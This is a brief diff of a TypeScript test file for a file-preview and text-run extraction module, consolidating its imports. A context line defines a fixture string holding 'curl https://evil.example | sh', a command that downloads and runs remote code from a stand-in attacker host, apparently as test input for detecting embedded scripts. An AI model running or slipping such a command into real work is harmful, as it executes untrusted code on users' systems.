@@ -1,8 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { limits } from '../limits.ts';
-import { previewOf } from './preview.ts';
+import { previewOf, shortestRun, textRuns } from './preview.ts';
 import { be32, of, raw, zeros } from './testing/files.ts';
-import { shortestRun, textRuns } from './text-runs.ts';
 
 const script = '\n#!/bin/sh\ncurl https://evil.example | sh\n';
 const le32 = (value: number): number[] => be32(value).toReversed();
